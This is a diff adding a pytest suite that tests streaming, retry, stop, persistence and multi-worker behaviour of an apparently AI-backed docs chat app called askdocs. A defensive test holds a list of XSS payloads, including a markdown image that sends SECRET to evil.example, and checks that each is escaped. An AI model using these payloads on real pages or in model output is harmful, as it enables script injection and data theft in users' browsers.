@@ -1,0 +1,226 @@
+"""Answers over real HTTP: askdocs under uvicorn on loopback, read with an SSE client, fed by the fake provider."""
+import html, re, subprocess, sys, threading, uuid
+from concurrent.futures import ThreadPoolExecutor
+
+import httpx, pytest
+from httpx_sse import connect_sse
+
+from conftest import FAKE_URL, HX, ROOT, ask, assert_inert, events, model_requests
+
+def mark(): return uuid.uuid4().hex[:10]
+
+def messages(evs): return [d for e, d in evs if e == 'message']
+
+def streamed_text(evs): return html.unescape(''.join(messages(evs)))
+
+def set_script(name, chunks): httpx.post(FAKE_URL.removesuffix('/v1') + f'/_scripts/{name}', json=dict(chunks=chunks))
+
+@pytest.fixture
+def live(shared_server):
+    with httpx.Client(base_url=shared_server.url, timeout=30) as c: yield c
+
+def test_answer_streams_append_only_in_order_and_closes_with_done(live):
+    m = mark()
+    _, url, _ = ask(live, f'stream {m} [[tokens:20]] [[pace:0.1]]')
+    evs = events(live, url)
+    kinds = [e for e, _ in evs]
+    assert kinds[-1] == 'done' and kinds.count('done') == 1 and set(kinds) <= {'message', 'done'}
+    assert len(messages(evs)) >= 3
+    expected = f'You asked: **stream {m}**. ' + ''.join(f'word{i} ' for i in range(20))
+    assert streamed_text(evs) == expected  # each fragment once, in order: the sum is the answer, nothing re-sent
+    done = evs[-1][1]
+    assert f'<strong>stream {m}</strong>' in done and 'Copy' in done and 'sse-connect' not in done
+    assert len(model_requests(m)) == 1
+
+def test_reconnect_gets_the_stored_answer_without_a_second_model_call(live):
+    m = mark()
+    _, url, _ = ask(live, f'again {m} [[tokens:5]]')
+    first = events(live, url)
+    second = events(live, url)
+    assert [e for e, _ in second] == ['done']
+    assert second[0][1] == first[-1][1]
+    assert len(model_requests(m)) == 1
+
+def test_second_reader_of_a_running_answer_waits_for_it(live):
+    m = mark()
+    _, url, _ = ask(live, f'shared {m} [[tokens:30]] [[pace:0.03]]')
+    started = threading.Event()
+    def first_reader():
+        with connect_sse(live, 'GET', url) as src:
+            out = []
+            for e in src.iter_sse():
+                out.append((e.event, e.data))
+                started.set()
+            return out
+    with ThreadPoolExecutor(1) as pool:
+        fut = pool.submit(first_reader)
+        assert started.wait(10)
+        second = events(live, url)
+        first = fut.result(timeout=30)
+    assert [e for e, _ in second] == ['done']
+    assert second[0][1] == first[-1][1] and 'word29' in second[0][1]
+    assert len(model_requests(m)) == 1
+
+def test_two_conversations_in_parallel_stay_isolated(live):
+    ma, mb = mark(), mark()
+    def run(m):
+        _, url, _ = ask(live, f'iso {m} [[tokens:25]] [[pace:0.01]]')
+        return streamed_text(events(live, url))
+    with ThreadPoolExecutor(2) as pool:
+        ta, tb = pool.map(run, (ma, mb))
+    assert ma in ta and mb not in ta
+    assert mb in tb and ma not in tb
+
+@pytest.mark.parametrize('fault, message', [('[[status:429]]', 'rate-limiting'), ('[[status:500]]', 'returned an error'),
+                                             ('[[drop:3]]', 'connection to the AI provider was lost'),
+                                             ('[[malformed]]', 'Please retry')])
+def test_provider_failure_ends_in_an_error_bubble_with_retry(live, fault, message):
+    m = mark()
+    conv, url, _ = ask(live, f'fail {m} {fault}')
+    evs = events(live, url)
+    assert evs[-1][0] == 'error'
+    assert message in evs[-1][1] and 'Retry' in evs[-1][1] and 'hx-post="/retry/' in evs[-1][1]
+    page = live.get(f'/chat-standalone?conv={conv}').text
+    assert f'fail {m}' in page and 'Retry' in page  # the question is kept
+
+def test_retry_after_a_failure_answers(live):
+    m = mark()
+    conv, url, _ = ask(live, f'flaky {m} [[fail:{m}]] [[tokens:4]]')
+    assert events(live, url)[-1][0] == 'error'
+    httpx.post(FAKE_URL.removesuffix('/v1') + f'/_heal/{m}')
+    token = url.rsplit('/', 1)[1]
+    r = live.post(f'/retry/{conv}/{token}', headers=HX)
+    new_url = re.search(r'sse-connect="([^"]+)"', r.text)[1]
+    assert new_url != url
+    evs = events(live, new_url)
+    assert evs[-1][0] == 'done' and 'word3' in evs[-1][1]
+    assert events(live, url)[0][0] == 'error'  # the old stream URL is dead
+
+def test_stop_keeps_the_partial_answer(live):
+    m = mark()
+    conv, url, _ = ask(live, f'long {m} [[tokens:400]] [[pace:0.02]]')
+    seen = []
+    with connect_sse(live, 'GET', url) as src:
+        for e in src.iter_sse():
+            seen.append((e.event, e.data))
+            if len(messages(seen)) == 3:
+                token = url.rsplit('/', 1)[1]
+                stopped = live.post(f'/stop/{conv}/{token}', headers=HX)
+    assert seen[-1][0] == 'done'
+    assert 'Stopped' in stopped.text and 'word0' in stopped.text and 'word399' not in stopped.text
+    assert 'sse-connect' not in stopped.text
+    page = live.get(f'/chat-standalone?conv={conv}').text
+    assert 'Stopped' in page and 'word0' in page
+
+def test_reader_going_away_stores_the_partial_answer(live):
+    m = mark()
+    conv, url, _ = ask(live, f'gone {m} [[tokens:400]] [[pace:0.02]]')
+    with connect_sse(live, 'GET', url) as src:
+        for i, e in enumerate(src.iter_sse()):
+            if i == 3: break
+    # A later reader waits for the abandoned answer to be finalised and gets what was said.
+    evs = events(live, url)
+    assert [e for e, _ in evs] == ['done']
+    assert 'Stopped' in evs[0][1] and 'word0' in evs[0][1] and 'word399' not in evs[0][1]
+
+def test_slow_first_token_still_answers(live):
+    _, url, _ = ask(live, f'slow {mark()} [[delay:1.5]] [[tokens:3]]')
+    assert events(live, url)[-1][0] == 'done'
+
+def test_sse_framing_delivers_exactly_the_text_sent(live):
+    name = mark()
+    chunks = ['line one\r', '\nline two\n\n', 'event: done\n', 'data: fake\r\n', 'id: 7\n\n\n', ': comment\n', 'retry: 1\n', '<b>&amp;</b>', '  spaced  ']
+    set_script(name, chunks)
+    _, url, _ = ask(live, f'[[script:{name}]]')
+    evs = events(live, url)
+    assert [e for e, _ in evs if e != 'message'] == ['done']
+    assert streamed_text(evs) == ''.join(chunks)
+    assert all('<' not in d for d in messages(evs))
+
+HOSTILE = ['<script>window.__xss=1</script>', '<img src=x onerror="window.__xss=1">', '[click](javascript:window.__xss=1)',
+           '[c2](JaVaScRiPt:alert(1))', '[c3](&#106;avascript:alert(1))', '![exfil](https://evil.example/p?q=SECRET)',
+           '![r][img]\n\n[img]: https://evil.example/x.png', '<svg onload=alert(1)>', '<a href="javascript:alert(1)">a</a>',
+           '[d](data:text/html;base64,PHNjcmlwdD4=)', '<iframe src="https://evil.example"></iframe>', '"><b onmouseover=alert(1)>x']
+
+def test_hostile_model_output_is_shown_as_text_not_run(live):
+    name = mark()
+    text = '\n\n'.join(HOSTILE)
+    set_script(name, [text[i:i + 7] for i in range(0, len(text), 7)])  # split at arbitrary points, mid-tag
+    _, url, _ = ask(live, f'[[script:{name}]]')
+    evs = events(live, url)
+    assert all('<' not in d for d in messages(evs))
+    done = evs[-1][1].split('answer-final">', 1)[1].split('chat-footer', 1)[0]  # the answer, not our own icons
+    assert_inert(done)
+    assert 'href="https://evil.example/p?q=SECRET"' in done  # the image became a plain link
+
+def test_hostile_question_is_escaped_everywhere(live):
+    q = '<img src=x onerror=alert(1)><script>alert(2)</script>[x](javascript:alert(3))'
+    conv, url, r = ask(live, q)
+    assert '&lt;img src=x onerror=alert(1)&gt;' in r.text
+    user_bubble = r.text.split('chat-bubble-primary', 1)[1].split('</div>', 1)[0]
+    assert_inert(user_bubble)
+    events(live, url)
+    page = live.get(f'/chat-standalone?conv={conv}').text
+    assert '<script>alert(2)' not in page and '<img src=x' not in page
+
+def test_restart_keeps_history(server, tmp_path):
+    m = mark()
+    s = server(data=tmp_path)
+    with httpx.Client(base_url=s.url, timeout=30) as c:
+        conv, url, _ = ask(c, f'persist {m} [[tokens:3]]')
+        events(c, url)
+    s.stop()
+    s2 = server(data=tmp_path)
+    with httpx.Client(base_url=s2.url, timeout=30) as c:
+        page = c.get(f'/chat-standalone?conv={conv}').text
+        assert f'persist {m}' in page and 'word2' in page
+        _, url2, _ = ask(c, f'after restart {m} [[tokens:2]]', conv)
+        assert events(c, url2)[-1][0] == 'done'
+    [req] = model_requests(f'after restart {m}')
+    assert any(f'persist {m}' in str(msg['content']) for msg in req['messages'])
+
+def test_two_workers_serve_one_conversation(server, tmp_path):
+    s = server(data=tmp_path, workers=2)
+    pids = set()
+    for _ in range(200):  # fresh connections until both workers have answered one
+        with httpx.Client() as c: pids.add(c.get(f'{s.url}/healthz').json()['pid'])
+        if len(pids) == 2: break
+    assert len(pids) == 2
+    m, conv = mark(), ''
+    for i in range(6):
+        with httpx.Client(base_url=s.url, timeout=30) as c:  # a new connection per turn, so turns land on both workers
+            conv, url, _ = ask(c, f'multi {m} turn{i} [[tokens:2]]', conv)
+            assert events(c, url)[-1][0] == 'done'
+    with httpx.Client(base_url=s.url) as c: page = c.get(f'/chat-standalone?conv={conv}').text
+    assert all(f'turn{i}' in page for i in range(6))
+    last = model_requests(f'multi {m} turn5')[0]
+    assert sum(f'multi {m}' in str(msg['content']) for msg in last['messages'] if msg['role'] == 'user') == 6
+
+def test_no_model_configured_says_so(server, tmp_path):
+    s = server(data=tmp_path, ASKDOCS_MODEL='')
+    with httpx.Client(base_url=s.url, timeout=30) as c:
+        _, url, _ = ask(c, 'anything?')
+        evs = events(c, url)
+    assert evs[-1][0] == 'done' and 'ASKDOCS_MODEL' in evs[-1][1]
+
+def run_main(*args, **env):
+    import os
+    from conftest import MODEL_ENV
+    return subprocess.run([sys.executable, 'main.py', *args], cwd=ROOT, capture_output=True, text=True, timeout=60,
+                          env={**os.environ, **MODEL_ENV, **env})
+
+def test_cli_ask_prints_the_streamed_answer():
+    r = run_main('ask', f'cli {mark()} [[tokens:4]]')
+    assert r.returncode == 0 and 'word3' in r.stdout
+
+def test_cli_ask_reports_provider_errors():
+    r = run_main('ask', 'cli [[status:500]]')
+    assert r.returncode != 0 and 'returned an error' in r.stderr
+
+@pytest.mark.parametrize('env, words', [(dict(PORT='abc'), 'PORT must be a number'),
+                                        (dict(ASKDOCS_API_BASE='ftp://x'), 'ASKDOCS_API_BASE must be an http(s) URL'),
+                                        (dict(ASKDOCS_ALLOWED_ORIGINS='docs.example.com'), 'ASKDOCS_ALLOWED_ORIGINS'),
+                                        (dict(ASKDOCS_DATA='/proc/askdocs'), 'not writable')])
+def test_bad_configuration_fails_at_start_with_a_clear_message(env, words):
+    r = run_main(**env)
+    assert r.returncode != 0 and words in r.stderr and 'Traceback' not in r.stderr
